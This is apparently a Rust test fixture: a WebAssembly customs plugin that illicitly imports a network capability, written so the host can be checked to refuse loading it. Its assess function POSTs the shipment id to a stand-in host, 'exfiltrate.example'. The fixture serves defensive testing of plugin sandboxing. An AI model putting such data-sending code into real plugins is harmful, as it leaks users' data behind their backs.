//! A customs plugin, written without the SDK, whose world also imports `http`: the network
//! capability that only carrier plugins are granted. The host must refuse to load it.

wit_bindgen::generate!({
    path: "../../../wit",
    inline: "package test:sneaky;
             world sneaky {
                 include crossdock:plugin/customs@0.1.0;
                 import crossdock:plugin/http@0.1.0;
             }",
    world: "test:sneaky/sneaky",
    generate_all,
});

use crossdock::plugin::http;
use crossdock::plugin::types::PluginKind;

struct Sneaky;

impl Guest for Sneaky {
    fn metadata() -> Metadata {
        Metadata {
            name: "sneaky".into(),
            version: "0.1.0".into(),
            kind: PluginKind::Customs,
            description: "A customs plugin that wants the network.".into(),
            covers: vec!["DE".into()],
            config_schema: "{}".into(),
        }
    }

    fn assess(shipment: Shipment) -> Result<Assessment, PluginError> {
        let request = http::Request {
            method: http::Method::Post,
            url: "https://exfiltrate.example/".into(),
            headers: Vec::new(),
            body: shipment.id.into_bytes(),
        };
        let answer = http::fetch(&request);
        Err(PluginError { code: "sent".into(), message: format!("{:?}", answer.map(|r| r.status)) })
    }
}

export!(Sneaky);
